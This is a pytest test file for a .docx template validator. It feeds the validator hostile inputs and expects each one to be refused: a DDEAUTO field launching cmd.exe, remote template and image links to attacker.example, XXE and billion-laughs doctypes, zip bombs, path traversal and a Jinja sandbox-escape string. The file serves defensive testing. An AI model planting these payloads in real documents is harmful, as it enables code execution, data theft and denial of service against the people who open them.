"""Templates built to harm whoever fills or opens them, or that nobody could fill."""

import time
import zipfile
from io import BytesIO

import pytest

from zhisheng.kit.sheets.errors import (
    SheetMemoryError,
    SheetTimeoutError,
    TemplateBracesError,
    TemplateNamesError,
    TemplatePartError,
    TemplateUnfitError,
)
from zhisheng.kit.word import check_template, checking

from .documents import (
    COLUMNS,
    OFFICE,
    RELATIONS,
    SINGLES,
    W,
    add_body,
    change_package,
    change_text,
    make_document,
    read_part,
    save,
)

PLAIN = save(make_document())
TYPES = "[Content_Types].xml"
MAIN = "word/document.xml"
LINKS = "word/_rels/document.xml.rels"
LONGEST_SECONDS = 25


@pytest.fixture
def check(tmp_path):
    """Return a function that checks bytes as an upload is checked, in bounded time."""

    def run(content):
        path = tmp_path / "template.docx"
        path.write_bytes(content)
        started = time.monotonic()
        try:
            check_template(path, singles=SINGLES, columns=COLUMNS)
        finally:
            assert time.monotonic() - started < LONGEST_SECONDS

    return run


def add_type(kind):
    override = f'<Override PartName="/word/odd.bin" ContentType="{kind}"/></Types>'
    return change_text(PLAIN, TYPES, "</Types>", override)


def add_link(kind, target, *, mode=' TargetMode="External"', part=LINKS):
    link = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    whole = f'<Relationships xmlns="{RELATIONS}">{link}</Relationships>'
    if part == LINKS:
        end = "</Relationships>"
        return change_text(PLAIN, LINKS, end, f"{link}{end}")
    return change_package(PLAIN, {part: whole})


def add_field(*instructions):
    runs = "".join(
        f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in instructions
    )
    begin, end = (
        f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "end")
    )
    return add_body(PLAIN, f"<w:p>{begin}{runs}{end}</w:p>")


def put_text(text):
    return add_body(PLAIN, f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")


def test_the_plain_template_is_fit(check):
    check(PLAIN)


@pytest.mark.parametrize(
    ("content", "what"),
    [
        (change_package(PLAIN, {"word/vbaProject.bin": b"x"}), "宏"),
        (change_package(PLAIN, {"word/vbaData.xml": b"<a/>"}), "宏"),
        (change_package(PLAIN, {"customUI/customUI.xml": b"<a/>"}), "宏"),
        (change_package(PLAIN, {"word/activeX/activeX1.xml": b"<a/>"}), "控件"),
        (change_package(PLAIN, {"word/embeddings/a.xlsx": b"x"}), "嵌入的对象"),
        (change_package(PLAIN, {"word/afchunk.mht": b"x"}), "引入的其他文档"),
        (change_text(PLAIN, TYPES, "vnd.openxmlformats-officedocument."
                     "wordprocessingml.document.main", "vnd.ms-word.document."
                     "macroEnabled.main"), "宏"),
        (add_type("application/vnd.ms-office.vbaProject"), "宏"),
        (add_type("application/vnd.ms-office.activeX+xml"), "控件"),
        (add_link("attachedTemplate", "http://attacker.example/t.dotm",
                  part="word/_rels/settings.xml.rels"), "指向外部的链接"),
        (add_link("attachedTemplate", "t.dotx", mode=""), "指向外部的链接"),
        (add_link("image", "http://attacker.example/a.png"), "指向外部的链接"),
        (add_link("image", "\\\\host\\a.png"), "指向外部的链接"),
        (add_link("image", "http://attacker.example/a.png", mode=""), "指向外部的链接"),
        (add_link("oleObject", "file:///c:/a.xlsx"), "嵌入的对象"),
        (add_link("aFChunk", "a.html", mode=""), "引入的其他文档"),
        (add_link("subDocument", "a.docx"), "引入的其他文档"),
        (add_link("frame", "http://attacker.example/"), "引入的其他文档"),
        (add_link("package", "media/a.bin", mode=""), "嵌入的对象"),
        (add_link("hyperlink", "file://host/a.exe"), "指向外部的链接"),
        (add_link("hyperlink", "\\\\host\\share"), "指向外部的链接"),
        (add_body(PLAIN, '<w:altChunk r:id="rId1"/>'), "引入的其他文档"),
        (add_body(PLAIN, "<w:p><w:r><w:object/></w:r></w:p>"), "嵌入的对象"),
        (add_body(PLAIN, '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-'
                  'microsoft-com:vml" src="http://attacker.example/a"/></w:pict></w:r>'
                  "</w:p>"), "指向外部的链接"),
        (change_package(PLAIN, {"word/settings.xml":
                        f'<w:settings xmlns:w="{W}"><w:mailMerge/></w:settings>'}),
         "指向外部的链接"),
    ],
)  # fmt: skip
def test_what_could_run_or_fetch_is_refused(check, content, what):
    with pytest.raises(TemplatePartError) as refused:
        check(content)
    assert refused.value.fields["what"] == what
    assert str(refused.value).startswith(f"模板里有{what}，在 ")


@pytest.mark.parametrize(
    ("instructions", "name"),
    [
        ((' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ',), "DDEAUTO"),
        ((" D", "DE excel", " a "), "DDE"),
        ((' INCLUDEPICTURE "http://attacker.example/a.png" \\d',), "INCLUDEPICTURE"),
        ((' INCLUDETEXT "c:\\a.docx" ',), "INCLUDETEXT"),
        ((" LINK Excel.Sheet.8 a ",), "LINK"),
        ((" MACROBUTTON Go click ",), "MACROBUTTON"),
        ((" QUOTE 68 68 69 ",), "QUOTE"),
        ((' HYPERLINK "\\\\\\\\host\\\\a" ',), "HYPERLINK"),
        ((' HYPERLINK "file:///c:/a.exe" ',), "HYPERLINK"),
        (("",), ""),
    ],
)
def test_fields_that_do_more_than_count_are_refused(check, instructions, name):
    with pytest.raises(TemplatePartError) as refused:
        check(add_field(*instructions))
    assert refused.value.fields == {
        "what": "会取用别处内容的域",
        "place": f"{MAIN} {name}".strip(),
    }


def test_a_field_written_in_one_is_refused_too(check):
    simple = '<w:p><w:fldSimple w:instr=" DDEAUTO cmd a "><w:r/></w:fldSimple></w:p>'

    with pytest.raises(TemplatePartError, match="会取用别处内容的域"):
        check(add_body(PLAIN, simple))


def test_a_field_that_another_one_names_is_refused(check):
    begin, end = (
        f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "end")
    )
    inner = f"{begin}<w:r><w:instrText>PAGE</w:instrText></w:r>{end}"

    with pytest.raises(TemplatePartError, match="会取用别处内容的域"):
        check(add_body(PLAIN, f"<w:p>{begin}{inner}{end}</w:p>"))


@pytest.mark.parametrize(
    "markup",
    [
        '<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
        ' r:link="rId99"/>',
        '<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
        ' r:embed="rId99"/>',
        '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:id="rId99"/>',
    ],
)
def test_a_picture_by_a_link_that_is_to_be_clicked_is_refused(check, markup):
    linked = add_link("hyperlink", "https://attacker.example/a.png")
    body = f"<w:p><w:r><w:pict>{markup}</w:pict></w:r></w:p>"
    content = change_text(linked, MAIN, "<w:body>", f"<w:body>{body}")

    with pytest.raises(TemplatePartError) as refused:
        check(content)
    assert refused.value.fields == {"what": "指向外部的链接", "place": MAIN}


PICTURE = (
    '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" '
    'r:id="rId99"/></w:pict></w:r></w:p>'
)


def rename(content, old, new):
    return change_package(content, {old: None, new: read_part(content, old)})


@pytest.mark.parametrize("mode", ["External", "EXTERNAL"])
@pytest.mark.parametrize("name", [LINKS, "word/_RELS/Document.xml.RELS"])
def test_a_picture_by_a_link_is_found_however_it_is_written(check, mode, name):
    linked = add_link(
        "hyperlink", "https://attacker.example/a.png", mode=f' TargetMode="{mode}"'
    )
    content = change_text(linked, MAIN, "<w:body>", f"<w:body>{PICTURE}")

    with pytest.raises(TemplatePartError) as refused:
        check(rename(content, LINKS, name) if name != LINKS else content)
    assert refused.value.fields == {"what": "指向外部的链接", "place": MAIN}


def test_links_of_a_part_that_is_not_there_are_refused(check):
    lost = "word/_rels/lost.xml.rels"
    content = add_link("hyperlink", "https://www.gov.cn/", part=lost)

    with pytest.raises(TemplatePartError) as refused:
        check(content)
    assert refused.value.fields == {"what": "指向外部的链接", "place": lost}


def test_a_picture_within_the_file_is_fit(check):
    linked = add_link("hyperlink", "#here", mode=' TargetMode="Internal"')
    check(change_text(linked, MAIN, "<w:body>", f"<w:body>{PICTURE}"))


@pytest.mark.parametrize(
    "content",
    [
        add_field(" PAGE \\* MERGEFORMAT "),
        add_field(" NUM", "PAGES "),
        add_field(' HYPERLINK "https://www.gov.cn/" '),
        add_link("hyperlink", "https://www.gov.cn/"),
        add_link("hyperlink", "mailto:a@b.example"),
    ],
)
def test_links_to_click_on_and_counted_pages_are_fit(check, content):
    check(content)


LAUGHS = "".join(
    f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "ha"}">' for i in range(10)
)


@pytest.mark.parametrize(
    "part", [MAIN, "word/styles.xml", LINKS, TYPES, "docProps/app.xml"]
)
@pytest.mark.parametrize(
    "doctype",
    [
        f"<!DOCTYPE x [{LAUGHS}]>",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>',
        '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">',
    ],
)
def test_document_types_are_refused(check, part, doctype):
    text = read_part(PLAIN, part).split("?>", 1)[1]

    with pytest.raises(TemplateUnfitError, match="内部结构不正常"):
        check(change_package(PLAIN, {part: f"<?xml version='1.0'?>{doctype}{text}"}))


def nest(depth):
    return "<w:p>" + "<w:r>" * depth + "</w:r>" * depth + "</w:p>"


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (change_package(PLAIN, {"word/media/a.bmp": b"\0" * 60_000_000}), "文件过大或内容过多"),
        (change_package(PLAIN, {"word/media/a.bmp": b"\0" * 20_000_000}), "内部结构不正常"),
        (change_package(PLAIN, {f"word/media/{n}.png": b"" for n in range(600)}), "内部结构不正常"),
        (add_body(PLAIN, "".join(f"<w:p>{n}</w:p>" for n in range(1_000_000))), "文件过大或内容过多"),
        (add_body(PLAIN, "<w:p/>" * 2_600_000), "文件过大或内容过多"),
        (add_body(PLAIN, nest(3_000)), "内部结构不正常"),
        (change_package(PLAIN, {"word/../../a.xml": b"<a/>"}), "内部结构不正常"),
        (PLAIN[:-200], "内部结构不正常"),
        (b"PK\x03\x04" + b"x" * 500, "内部结构不正常"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "旧的 .doc 格式或设有打开密码"),
        (b"{{no zip}}", "只收 .docx 文件"),
        (b"", "只收 .docx 文件"),
        (change_package(PLAIN, {MAIN: None}), "只收 .docx 文件"),
        (change_package(PLAIN, {MAIN: b"<w:document"}), "内部结构不正常"),
        (change_package(PLAIN, {MAIN: b"<document/>"}), "普通的 .docx"),
    ],
    ids=["size", "ratio", "entries", "text", "elements", "depth", "path", "torn", "head", "old", "text file",
         "empty", "no main", "broken", "strict"],
)  # fmt: skip
def test_bombs_and_broken_files_are_refused(check, content, reason):
    with pytest.raises(TemplateUnfitError, match=reason):
        check(content)


def test_an_archive_in_a_template_costs_no_time(check):
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as inner:
        inner.writestr("a", b"\0" * 60_000_000)

    check(change_package(PLAIN, {"word/media/a.png": out.getvalue()}))


@pytest.mark.parametrize("error", [SheetTimeoutError(seconds=20), SheetMemoryError()])
def test_a_reader_that_runs_out_is_told_in_words(check, monkeypatch, error):
    def run_out(*_arguments, **_options):
        raise error

    monkeypatch.setattr(checking, "run_confined", run_out)

    with pytest.raises(TemplateUnfitError, match="文件过大或内容过多"):
        check(PLAIN)


def test_unknown_names_are_told_with_their_places(check):
    document = make_document(cells=("{{序号}}", "{{法人身份证}}", "{{营业收入}}"))
    document.paragraphs[-1].add_run("{{手").bold = True
    document.paragraphs[-1].add_run("机}}")
    document.sections[0].header.paragraphs[0].text = "{{密级}}"

    with pytest.raises(TemplateNamesError) as refused:
        check(save(document))
    names = refused.value.fields["names"]
    assert sorted(names.split("、")) == [
        "密级（页眉“{{密级}}”）",
        "手机（正文“核对码：{{核对码}}　　（盖章）{{手机}}”）",
        "法人身份证（正文第 1 张表第 2 行）",
    ]


@pytest.mark.parametrize("text", ["{{核对码}", "核对码}}", "｛｛核对码｝｝", "{% for a in b %}",
                                  "{{ a.__class__ }} {{"])  # fmt: skip
def test_broken_braces_are_told_with_their_place(check, text):
    with pytest.raises(TemplateBracesError) as refused:
        check(put_text(text))
    assert refused.value.fields == {"place": f"正文“{text}”"}


def test_an_expression_is_an_unknown_name(check):
    with pytest.raises(TemplateNamesError, match="cycler"):
        check(put_text("{{ cycler.__init__.__globals__ }}"))


@pytest.mark.parametrize(
    ("markup", "reason"),
    [
        ("<w:p><w:r><w:t>{{企业名称}}</w:t></w:r></w:p>", "写在正文表格的一行里"),
        ("<w:tbl><w:tr><w:tc><w:p><w:r><w:t>{{企业名称}}</w:t></w:r></w:p></w:tc></w:tr>"
         "</w:tbl>", "只能写在一行里"),
        ("<w:p><w:ins><w:r><w:t>甲</w:t></w:r></w:ins></w:p>", "没处理的修订"),
    ],
)  # fmt: skip
def test_what_nobody_could_fill_is_refused(check, markup, reason):
    with pytest.raises(TemplateUnfitError, match=reason):
        check(add_body(PLAIN, markup))


def test_a_pattern_with_cells_merged_downwards_is_refused(check):
    document = make_document()
    document.tables[0].add_row()
    document.tables[0].cell(1, 0).merge(document.tables[0].cell(2, 0))

    with pytest.raises(TemplateUnfitError, match="不能有合并的单元格"):
        check(save(document))


def test_a_file_without_names_is_no_template(check):
    from docx import Document

    with pytest.raises(TemplateUnfitError, match="没有占位符"):
        check(save(Document()))
